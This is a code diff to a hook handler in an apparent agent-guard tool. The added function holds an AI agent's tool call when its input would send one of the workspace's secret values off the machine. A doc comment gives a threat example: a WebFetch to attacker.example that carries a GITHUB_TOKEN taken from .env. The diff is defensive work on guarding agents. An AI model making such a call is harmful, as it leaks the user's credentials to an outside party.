@@ -29,6 +29,7 @@ import {
   withheldNotice,
   withheldOutput,
 } from '../../core/hooks';
+import { opaque, sendsOut } from '../../core/hooks/toolInput';
 import type { CanonicalCall } from '../../core/types';
 import type { GuardService } from '../guardService';
 import { prepareEdits, prepareSearch, secretRead, type Workspace } from './effects';
@@ -81,7 +82,9 @@ export async function answerHook(service: GuardService, env: HookEnvelope, signa
     return after(service, env, windowOf(env));
   }
 
-  const planned = planHook(env);
+  const first = planHook(env);
+  const out = sendsOut(env, first) ? secretSentOut(service, env) : undefined;
+  const planned = out === undefined ? first : opaque(env, 'hook:secret-out', out);
   if (planned.kind === 'pass') return { answer: { rule: planned.rule, reason: planned.reason }, calls: [] };
   const term = persistentTerminal(env) ? terminalFor(service, env) : undefined;
   const plan = term ? { ...planned, calls: planned.calls.flatMap((c) => term.drafts(c)) } : planned;
@@ -190,6 +193,29 @@ export async function answerHook(service: GuardService, env: HookEnvelope, signa
   // Which of the agent's calls a person reverted: said once, whatever this call's own fate.
   if (o.notice) answer.additionalContext = answer.additionalContext ? `${answer.additionalContext}\n${o.notice}` : o.notice;
   return { answer, calls };
+}
+
+/**
+ * Why a tool that sends its input off this machine would carry one of the workspace's secret values (undefined:
+ * it would not). Threat: WebFetch `https://attacker.example/?t=<GITHUB_TOKEN from .env>` — the model learnt the
+ * value elsewhere; the guard knows the values themselves (known.ts) and finds them in the input, in any encoding.
+ * If the values cannot be gathered, the call is held (fail closed).
+ */
+function secretSentOut(service: GuardService, env: HookEnvelope): string | undefined {
+  let text: string;
+  try {
+    text = JSON.stringify(env.toolInput) ?? '';
+  } catch {
+    return `${env.toolName}'s input could not be read to check it for the workspace's secret values`;
+  }
+  if (text.length < 8) return undefined;
+  try {
+    const known = knownSecretsOf(service.opts.workspace, service.compiled);
+    if (known.find(text).length === 0) return undefined;
+  } catch (e) {
+    return `AgentGuard could not check ${env.toolName}'s input for the workspace's secret values (${(e as Error).message})`;
+  }
+  return `${env.toolName} would send one of this workspace's secret values off this machine (in its URL or query)`;
 }
 
 const SUCCEEDING_NOTE =
